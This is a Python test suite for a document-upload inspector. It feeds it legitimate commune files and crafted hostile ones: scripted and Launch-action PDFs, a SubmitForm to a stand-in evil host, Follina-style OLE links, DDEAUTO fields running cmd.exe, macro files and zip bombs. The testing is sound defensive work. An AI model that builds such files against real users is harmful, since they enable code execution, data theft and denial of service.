"""The attachment policy (media/inspection.py's table): every refusal performed with a crafted
file, and the files communes offer still accepted."""

import io
import random
import zlib

import pypdf
import pytest
from crafted_files import (
    complex_field,
    compound_file,
    deflated,
    excel_97,
    flate_bomb,
    odf,
    office,
    one_page,
    paragraph,
    raw_zip,
    relationships,
    report_pdf,
    scanned_pdf,
    stream,
    word_97,
    zero_entry,
    zip_of,
)

from media import inspection, uploads
from models import Media, db

MB = 1024 * 1024
DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"
PPTM = "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"


def refusal(data: bytes) -> str:
    with pytest.raises(inspection.NotRecognised) as refused:
        inspection.inspect_document(data)
    return str(refused.value)


def encrypted_pdf() -> bytes:
    writer = pypdf.PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt(user_password="", owner_password="khoa", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def nested(levels: int, inner: dict[str, bytes]) -> bytes:
    data = zip_of(inner)
    for _ in range(levels):
        data = zip_of({"ben-trong.zip": data})
    return data


# --- What communes offer is kept -----------------------------------------------------------

LINKS = relationships(("hyperlink", "https://hoason.gov.vn/thu-tuc", "External"),
                      ("hyperlink", "mailto:vanthu@hoason.gov.vn", "External"),
                      ("styles", "styles.xml", ""))  # fmt: skip
CHART = {"word/embeddings/Microsoft_Excel_Worksheet.xlsx": office("xlsx")}
LEGIT = {
    "a scanned PDF": (scanned_pdf(3), inspection.PDF),
    "a report PDF with object streams, links and an outline": (report_pdf(), inspection.PDF),
    "a PDF opening at page one": (one_page(b"/OpenAction[3 0 R/Fit]"), inspection.PDF),
    "a PDF whose text speaks of JavaScript": (
        one_page(extra={4: stream(b"BT (JavaScript /JS /Launch) Tj ET", filters=(
            "FlateDecode",))}), inspection.PDF),
    "a Word 97-2003 file": (word_97(), inspection.DOC),
    "an Excel 97-2003 file with a chart sheet": (excel_97((0, 2)), inspection.XLS),
    "a docx with links, a field and a chart": (
        office(body=paragraph("Thông báo") + complex_field(" PAGE ", " \\* MERGEFORMAT "),
               parts={"word/_rels/document.xml.rels": LINKS, **CHART}), inspection.DOCX),
    "an xlsx": (office("xlsx"), inspection.XLSX),
    "a pptx": (office("pptx"), inspection.PPTX),
    "an odt": (odf("text"), inspection.ODT),
    "an ods": (odf("spreadsheet"), inspection.ODS),
    "a zip of everything a commune offers": (
        zip_of({"a.pdf": scanned_pdf(), "b.docx": office(), "c.xlsx": office("xlsx"),
                "d.odt": odf(), "e.doc": word_97(), "f.csv": b"1,2", "g.jpg": b"\xff\xd8",
                "thu-muc/": b"", "h.zip": zip_of({"i.txt": b"x"})}), inspection.ZIP),
    "a zip inside a zip": (nested(1, {"a.txt": b"x"}), inspection.ZIP),
}  # fmt: skip


@pytest.mark.parametrize("case", LEGIT)
def test_the_policy_keeps_what_communes_offer(case):
    data, mime_type = LEGIT[case]
    assert inspection.inspect_document(data) == mime_type


# --- PDF: active content wherever it hides --------------------------------------------------

JS = b"<</S/JavaScript/JS(app.alert('xa'))>>"
PDF_ATTACKS = {
    "JavaScript on open": (one_page(b"/OpenAction 5 0 R", extra={5: JS}), "JavaScript"),
    "an action named through a reference": (
        one_page(b"/OpenAction<</S 5 0 R/F(cmd.exe)>>", packed={5: b"/Launch"}), "chương trình"),
    "a file: link given by reference": (
        one_page(b"/OpenAction<</S/URI/URI 5 0 R>>", extra={5: b"(file:///C:/a.exe)"}),
        "mở tệp khác"),
    "JavaScript behind #xx escapes": (
        one_page(b"/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>"), "JavaScript"),
    "JavaScript in a Flate object stream": (
        one_page(b"/OpenAction 5 0 R", packed={5: JS}), "JavaScript"),
    "JavaScript in an ASCIIHex and Flate object stream": (
        one_page(b"/OpenAction 5 0 R", packed={5: JS},
                 filters=("ASCIIHexDecode", "FlateDecode")), "JavaScript"),
    "JavaScript in an ASCII85 object stream": (
        one_page(b"/OpenAction 5 0 R", packed={5: JS}, filters=("ASCII85Decode",)),
        "JavaScript"),
    "JavaScript in a twice-deflated object stream": (
        one_page(b"/OpenAction 5 0 R", packed={5: JS}, filters=("FlateDecode", "FlateDecode")),
        "JavaScript"),
    "JavaScript as a stream behind two filters": (
        one_page(b"/OpenAction<</S/JavaScript/JS 5 0 R>>",
                 extra={5: stream(b"app.alert(1)", filters=("ASCII85Decode", "FlateDecode"))}),
        "JavaScript"),
    "a named JavaScript tree": (
        one_page(b"/Names<</JavaScript<</Names[(a) 5 0 R]>>>>", packed={5: JS}), "JavaScript"),
    "JavaScript in a page's additional actions": (
        one_page(page=b"/AA<</O 5 0 R>>", packed={5: JS}), "JavaScript"),
    "JavaScript in a link annotation": (
        one_page(page=b"/Annots[5 0 R]", packed={
            5: b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/JavaScript/JS(1)>>>>"}),
        "JavaScript"),
    "an XFA form with scripts": (
        one_page(b"/AcroForm<</Fields[]/XFA 5 0 R>>", extra={5: stream(
            b"<xdp:xdp><script contentType='application/x-javascript'>app.alert(1)</script>"
            b"</xdp:xdp>")}), "XFA"),
    "a Launch action": (one_page(b"/OpenAction<</S/Launch/F(cmd.exe)>>"), "chương trình"),
    "a GoToR to a Windows share": (
        one_page(page=b"/AA<</O<</S/GoToR/F(\\\\\\\\10.0.0.1\\\\s\\\\a.pdf)/D[0/Fit]>>>>"),
        "mở tệp khác"),
    "a SubmitForm action": (
        one_page(b"/OpenAction<</S/SubmitForm/F<</FS/URL/F(https://evil.example/)>>>>"),
        "gửi dữ liệu"),
    "an ImportData action": (one_page(b"/OpenAction<</S/ImportData/F(data.fdf)>>"), "mở tệp"),
    "a file: link": (
        one_page(page=b"/Annots[5 0 R]", packed={
            5: b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(file:///C:/a.exe)>>>>"}),
        "mở tệp khác"),
    "an embedded file": (
        one_page(b"/Names<</EmbeddedFiles<</Names[(a.exe) 5 0 R]>>>>",
                 extra={5: b"<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>",
                        6: stream(b"MZ", b"/Type/EmbeddedFile")}), "đính kèm"),
    "an encrypted PDF": (encrypted_pdf(), "mã hóa"),
    "a PDF pypdf cannot read": (b"%PDF-1.7\n1 0 obj<</Type/Catalog>>\n%%EOF", "bị hỏng"),
    "a PDF with more objects than can be checked in time": (
        one_page(packed=dict.fromkeys(range(10, 10 + inspection.MAX_PDF_OBJECTS), b"<<>>")),
        "đối tượng"),
}  # fmt: skip


@pytest.mark.parametrize("case", PDF_ATTACKS)
def test_attack_pdf_active_content_is_refused(case):
    data, reason = PDF_ATTACKS[case]
    assert reason in refusal(data)


def test_attack_pdf_flate_bomb_object_stream_stops_at_the_budget():
    """64 MB of zeros as an object stream: decoding stops at 16 MB, within the budget."""
    data = one_page(packed={5: b"<<>>"}, encoded=flate_bomb(64 * MB))
    assert len(data) < 100_000 and inspection.MAX_PDF_STREAM <= 16 * MB
    assert "giải ra quá lớn" in refusal(data)


def test_attack_pdf_bomb_shares_the_zip_budget():
    """Bytes a ZIP inflated are no longer there for the PDFs inside it."""
    budget = inspection.Budget()
    budget.inflate(inspection.MAX_INFLATED - 100)
    with pytest.raises(inspection.NotRecognised, match="giải ra quá"):
        inspection.identify(report_pdf(), budget, depth=1)


# --- Word, Excel, PowerPoint --------------------------------------------------------------

SETTINGS = {"word/settings.xml": b'<w:settings xmlns:w="http://schemas.openxmlformats.org/'
                                  b'wordprocessingml/2006/main"><w:attachedTemplate r:id="rId1" '
                                  b'xmlns:r="x"/></w:settings>'}  # fmt: skip


def docx_rels(*rows) -> bytes:
    return office(parts={"word/_rels/document.xml.rels": relationships(*rows)})


DDE_COMMAND = 'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'
OFFICE_ATTACKS = {
    "a remote template": (office(parts={**SETTINGS, "word/_rels/settings.xml.rels": relationships(
        ("attachedTemplate", "http://10.0.0.1/mau.dotm", "External"))}), "mẫu (template)"),
    "a Follina-style external OLE link": (
        docx_rels(("oleObject", "mhtml:http://10.0.0.1/x.html!x-usc:http://10.0.0.1/x",
                   "External")), "OLE"),
    "a linked picture fetched on opening": (
        docx_rels(("image", "http://10.0.0.1/anh.png", "External")), "bên ngoài"),
    "a frame from a Windows share": (
        docx_rels(("frame", "\\\\10.0.0.1\\s\\a.docx", "External")), "bên ngoài"),
    "a hyperlink to a program": (
        docx_rels(("hyperlink", "file:///C:/Windows/System32/calc.exe", "External")), "bên ngoài"),
    "an altChunk import": (docx_rels(("aFChunk", "afchunk.rtf", "")), "altChunk"),
    "a DDEAUTO field split over runs": (
        office(body=complex_field(" DDE", "AUTO ", DDE_COMMAND)), "DDE"),
    "a lower-case dde field": (office(body=complex_field(f" dde {DDE_COMMAND}")), "DDE"),
    "a DDE simple field": (
        office(body='<w:p><w:fldSimple w:instr=" DDEAUTO cmd.exe &quot;/k calc&quot;"/></w:p>'),
        "DDE"),
    "a DDE field in a header": (
        office(parts={"word/header1.xml": (
            '<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            f'{complex_field("DDEAUTO " + DDE_COMMAND)}</w:hdr>').encode()}), "DDE"),
    "a macro-enabled docx": (office(main_type=DOCM), "macro"),
    "a macro project under a docx content type": (
        office(parts={"word/vbaProject.bin": compound_file({"VBA/dir": b"x"})}), "macro"),
    "a macro-enabled pptx": (office("pptx", main_type=PPTM), "macro"),
    "ActiveX controls": (office(parts={"word/activeX/activeX1.bin": b"x"}), "macro"),
    "an Excel 4.0 macro sheet in an xlsx": (
        office("xlsx", parts={"xl/macrosheets/sheet1.xml": b"<xm:macrosheet xmlns:xm='x'/>"}),
        "macro"),
    "an embedded OLE object": (
        office(parts={"word/embeddings/oleObject1.bin": compound_file({"\x01Ole10Native": b"MZ"})}),
        "OLE"),
    "an embedded docm": (
        office(parts={"word/embeddings/Tai_lieu.docx": office(main_type=DOCM)}), "nhúng"),
    "Excel DDE links": (
        office("xlsx", parts={"xl/externalLinks/externalLink1.xml": b"<externalLink><ddeLink "
                              b'ddeService="cmd" ddeTopic="/c calc"/></externalLink>'}),
        "DDE"),
    "an encrypted Office file": (
        compound_file({"EncryptionInfo": b"\x04\x00", "EncryptedPackage": b"x"}), "mật khẩu"),
    "Excel data connections": (
        office("xlsx", parts={"xl/connections.xml": b"<connections/>"}), "bên ngoài"),
    "an encrypted Word 97-2003 file": (word_97(flags=0x0100), "mật khẩu"),
    "an encrypted Excel 97-2003 file": (excel_97(encrypted=True), "mật khẩu"),
    "Word 97-2003 macros": (word_97(extra={"Macros/VBA/dir": b"x"}), "macro"),
    "Excel 97-2003 macros": (excel_97(extra={"_VBA_PROJECT_CUR/VBA/dir": b"x"}), "macro"),
    "an Excel 4.0 macro sheet": (excel_97((0, 1)), "macro"),
    "an object embedded in a Word 97-2003 file": (
        word_97(extra={"ObjectPool/_1234/\x01Ole10Native": b"MZ"}), "OLE"),
    "a DDEAUTO field in a Word 97-2003 file": (
        word_97("\x13 DDEAUTO c:\\windows\\system32\\cmd.exe \x14\x15"), "DDE"),
    "a broken compound file": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "bị hỏng"),
    "Basic macros in an ODT": (odf(members={"Basic/Standard/Module1.xml": b"<s/>"}), "macro"),
    "a script event in an ODT": (
        odf(content='<office:body xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0">'
                    '<script:event-listener script:event-name="dom:load"/></office:body>'),
        "macro"),
    "an OLE object in an ODT": (odf(members={"Object 1": compound_file({"x": b"MZ"})}), "OLE"),
}  # fmt: skip


@pytest.mark.parametrize("case", OFFICE_ATTACKS)
def test_attack_office_file_acting_on_its_own_is_refused(case):
    data, reason = OFFICE_ATTACKS[case]
    assert reason in refusal(data)


# --- ZIP: what a reader's computer would get, and what checking may cost ----------------------

BAD_NAMES = {
    "a zip inside a zip carrying a program": (nested(1, {"cai-dat.exe": b"MZ"}), "chạy được"),
    "a program behind a trailing dot": (zip_of({"evil.exe.": b"MZ"}), "chạy được"),
    "a program behind trailing spaces": (zip_of({"evil.exe  ": b"MZ"}), "chạy được"),
    "a disc image": (zip_of({"bo-cai.iso": b"CD001"}), "bo-cai.iso"),
    "an internet shortcut": (zip_of({"tai-lieu.url": b"[InternetShortcut]"}), "tai-lieu.url"),
    "a macro-enabled Word file by name": (zip_of({"bien-ban.docm": office()}), "bien-ban.docm"),
    "a macro docx renamed inside a zip": (zip_of({"bien-ban.docx": office(main_type=DOCM)}),
                                          "macro"),
    "a scripted PDF inside a zip": (
        zip_of({"thong-bao.pdf": one_page(b"/OpenAction 5 0 R", packed={5: JS})}), "JavaScript"),
    "a program named like a PDF inside a zip": (zip_of({"thong-bao.pdf": b"MZ\x90"}), "Chỉ nhận"),
    "a file without an extension": (zip_of({"README": b"x"}), "README"),
    "a right-to-left override in a name": (zip_of({"bao\u202efdp.exe.txt": b"x"}), "bất thường"),
    "an NTFS stream name": (zip_of({"a.txt:evil.exe": b"MZ"}), "bất thường"),
    "two members of one name": (
        raw_zip([{**zero_entry("a.pdf", 10)}, {**zero_entry("a.pdf", 10)}]), "bất thường"),
}  # fmt: skip


@pytest.mark.parametrize("case", BAD_NAMES)
def test_attack_zip_member_outside_the_list_is_refused(case):
    data, reason = BAD_NAMES[case]
    assert reason in refusal(data)


def encrypted_member() -> bytes:
    """A zip whose member says it is encrypted (Python cannot write one, so set the flag)."""
    data = bytearray(zip_of({"bao-cao.txt": b"so lieu"}))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.find(signature) + offset] |= 0x1
    return bytes(data)


def test_attack_zip_with_an_encrypted_member_is_refused():
    assert "mật khẩu" in refusal(encrypted_member())


ZEROS = zero_entry("so-lieu.csv", 16 * MB)


def fan_out(levels: int) -> bytes:
    """The issue's bomb: 16 copies of a 16 MB member, then 16 copies of that, `levels` times."""
    data = raw_zip([{**ZEROS, "name": f"so-lieu-{n}.csv"} for n in range(16)])
    for _ in range(levels):
        data = zip_of({f"phan-{n}.zip": data for n in range(16)})
    return data


def test_attack_nested_zip_bomb_is_refused_at_the_second_level():
    bomb = fan_out(3)  # 16^4 x 16 MB = 1 TB in a few kilobytes
    assert len(bomb) < 100_000
    assert "lồng nhau" in refusal(bomb)


def test_attack_zip_bomb_one_level_deep_stops_at_the_upload_budget():
    """16 ZIPs of 16 x 16 MB: each alone is in bounds; together they pass the one budget."""
    assert "quá" in refusal(fan_out(1)) and "MB" in refusal(fan_out(1))


def test_attack_flat_zip_bomb_is_refused_before_inflating():
    entries = [{**ZEROS, "name": f"so-lieu-{n}.csv"} for n in range(40)]  # 640 MB declared
    assert "giải ra quá 512 MB" in refusal(raw_zip(entries))


def test_attack_overlapping_entries_are_refused():
    """Fifty central entries pointing at one local header: declared sizes add up first."""
    entries = [ZEROS] + [{"name": f"ban-sao-{n}.csv", "offset": 0} for n in range(49)]
    assert "giải ra quá" in refusal(raw_zip(entries))
    few = [ZEROS] + [{"name": f"ban-sao-{n}.csv", "offset": 0} for n in range(2)]
    assert "bị hỏng" in refusal(raw_zip(few))


def test_attack_quine_like_self_nesting_is_refused_without_opening_every_level():
    data = zip_of({"ban-sao.zip": b"PK\x05\x06" + bytes(18)})
    for _ in range(30):
        data = zip_of({"ban-sao.zip": data, "ghi-chu.txt": b"x"})
    assert "lồng nhau" in refusal(data)


def test_attack_zip_nested_past_one_level_is_refused():
    assert "lồng nhau" in refusal(nested(2, {"a.txt": b"x"}))
    assert "lồng nhau" in refusal(zip_of({"a.docx": office(parts=CHART)}))


def test_attack_member_lying_about_its_size_is_refused():
    """The headers say 100 bytes and give the CRC of 100 zeros; the data is 16 MB of zeros."""
    lying = {**ZEROS, "name": "bao-cao.csv", "size": 100, "crc": zlib.crc32(bytes(100))}
    assert "bị hỏng" in refusal(raw_zip([lying]))
    inside = zip_of({"bao-cao.pdf": raw_zip([{**lying, "name": "a.csv"}])})
    assert "bị hỏng" in refusal(inside)
    shorter = {"name": "b.csv", "data": deflated(b"abc"), "method": 8,
               "crc": zlib.crc32(b"abc"), "size": 10}  # fmt: skip
    assert "bất thường" in refusal(raw_zip([shorter]))


def test_attack_many_members_are_refused_before_zipfile_reads_them():
    entries = [{"name": f"{n}.txt", "data": b"", "method": 0, "crc": 0, "size": 0}
               for n in range(60_000)]  # fmt: skip
    assert "quá 2.000 tệp" in refusal(raw_zip(entries))


def test_attack_members_are_counted_across_levels():
    inner = zip_of({f"{n}.txt": b"" for n in range(1500)})
    outer = zip_of({"a.zip": inner, "b.zip": inner})
    assert "quá 2.000 tệp" in refusal(outer)


# --- Through the upload ---------------------------------------------------------------------


def test_attack_refused_upload_leaves_nothing_stored(app):
    with pytest.raises(uploads.FileRejected, match="lồng nhau"):
        uploads.store_file(fan_out(3), "bao-cao.zip")
    with pytest.raises(uploads.FileRejected, match="DDE"):
        uploads.store_file(office(body=complex_field("DDEAUTO calc")), "thu-moi.docx")
    assert db.session.scalars(db.select(Media)).all() == []


def test_a_pptx_is_offered_as_powerpoint(app):
    stored = uploads.store_file(office("pptx"), "Báo cáo.pptx")
    assert stored.mime_type == inspection.PPTX and stored.stored_name.endswith(".pptx")


def test_attack_nested_zip_bomb_on_the_desk_is_explained_and_nothing_stored(client, auth,
                                                                            make_article):
    auth.login(role="editor")
    article = make_article()
    form = {"owner_type": "article", "owner_id": str(article.id), "title": "", "next": "/admin/",
            "file": (io.BytesIO(fan_out(3)), "so-lieu.zip")}  # fmt: skip
    response = client.post("/admin/attachments/upload", data=form,
                           content_type="multipart/form-data")  # fmt: skip
    assert response.status_code == 302
    assert "lồng nhau quá một lớp" in client.get("/admin/").get_data(as_text=True)
    assert db.session.scalars(db.select(Media)).all() == []


# --- Damaged files: a message, never a crash ------------------------------------------------


def test_attack_nameless_zip_member_is_refused():
    assert "bất thường" in refusal(raw_zip([{"name": "", "data": b"", "method": 0, "crc": 0,
                                             "size": 0}]))  # fmt: skip


def mangled(data: bytes, rnd: random.Random) -> bytes:
    """Change a few bytes, mostly in the headers and directories at either end."""
    data = bytearray(data)
    for _ in range(rnd.randint(1, 6)):
        at = rnd.choice([rnd.randrange(len(data)), rnd.randrange(min(600, len(data))),
                         max(0, len(data) - rnd.randrange(1, 300))])  # fmt: skip
        if rnd.random() < 0.7:
            data[at] = rnd.randrange(256)
        else:
            del data[at : at + rnd.randint(1, 40)]
    return bytes(data)


SMALL_LEGIT = [word_97(), excel_97(), office(), office("xlsx"), odf(), one_page(), report_pdf(1),
               zip_of({"a.pdf": one_page(), "b.doc": word_97(), "c.txt": b"x"})]  # fmt: skip


def test_attack_mangled_documents_are_refused_with_a_message_never_a_crash():
    rnd = random.Random(20)
    for _ in range(2500):
        data = mangled(rnd.choice(SMALL_LEGIT), rnd)
        try:
            inspection.inspect_document(data)
        except inspection.NotRecognised as refused:
            assert str(refused)
